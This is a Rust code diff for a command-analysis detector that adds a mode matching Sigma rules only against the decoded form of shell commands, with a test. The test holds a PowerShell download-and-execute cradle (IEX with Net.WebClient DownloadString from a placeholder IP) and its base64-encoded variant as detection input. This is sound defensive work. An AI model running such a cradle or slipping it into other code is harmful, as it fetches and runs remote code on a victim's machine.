@@ -19,6 +19,9 @@ use warden_sigma::{Level, RuleSet, Scratch};
 /// The rules, and how much a match of each level weighs in the signature view.
 pub struct PayloadRules {
     set: Arc<RuleSet>,
+    /// Only the decoded form is matched: where the rules already ran on the event itself
+    /// (a hunt), the original's matches are reported there.
+    decoded_only: bool,
 }
 
 thread_local! {
@@ -28,7 +31,19 @@ thread_local! {
 impl PayloadRules {
     /// The rules of `set` (shared: the service's log-event pipelines use the same set).
     pub fn new(set: impl Into<Arc<RuleSet>>) -> PayloadRules {
-        PayloadRules { set: set.into() }
+        PayloadRules {
+            set: set.into(),
+            decoded_only: false,
+        }
+    }
+
+    /// The rules of `set` over the decoded form alone (nothing for a text that decodes to
+    /// nothing): for a hunt, which matches them on each event as it was logged.
+    pub fn on_decoded(set: impl Into<Arc<RuleSet>>) -> PayloadRules {
+        PayloadRules {
+            set: set.into(),
+            decoded_only: true,
+        }
     }
 
     /// Rules loaded (all categories; only process-creation ones can match).
@@ -94,6 +109,9 @@ impl PatternSource for PayloadRules {
         for (layer, shell) in [(0, a.shell), (last, a.decoded.shell.unwrap_or(a.shell))] {
             if layer == last && layer == 0 && !out.is_empty() {
                 break;
+            }
+            if layer == 0 && self.decoded_only {
+                continue;
             }
             let Some(l) = a.decoded.layers.get(layer) else {
                 continue;
@@ -218,6 +236,43 @@ tags:
         // A clean command does not match.
         let v = a.analyze("Get-ChildItem C:\\Users", Some(Shell::Powershell));
         assert!(!v.patterns.iter().any(|p| p.id.starts_with("sigma:")));
+    }
+
+    #[test]
+    fn on_decoded_the_original_is_left_to_whoever_matched_the_event() {
+        let set = {
+            let dir =
+                std::env::temp_dir().join(format!("warden-payload-decoded-{}", std::process::id()));
+            std::fs::create_dir_all(&dir).unwrap();
+            std::fs::write(dir.join("cradle.yml"), RULE).unwrap();
+            let mut b = RuleSetBuilder::new(Mapping::builtin());
+            b.add_path(&dir);
+            std::fs::remove_dir_all(&dir).ok();
+            Arc::new(b.build())
+        };
+        let a = Analyzer::new(None, VerdictConfig::default())
+            .with_source(Arc::new(PayloadRules::on_decoded(set)));
+        let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.1/a')";
+        let sigma = |text: &str| -> Vec<usize> {
+            a.analyze(text, Some(Shell::Powershell))
+                .patterns
+                .iter()
+                .filter(|p| p.id.starts_with("sigma:"))
+                .map(|p| p.layer)
+                .collect()
+        };
+        // In clear, the event's own match is the hunt's to report.
+        assert_eq!(
+            sigma(&format!("powershell -c \"{script}\"")),
+            Vec::<usize>::new()
+        );
+        // Encoded, the rule sees what the event hid.
+        let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
+        let text = format!(
+            "powershell -enc {}",
+            warden_payload::deobf::codec::to_base64(&utf16)
+        );
+        assert_eq!(sigma(&text), vec![1]);
     }
 
     #[test]
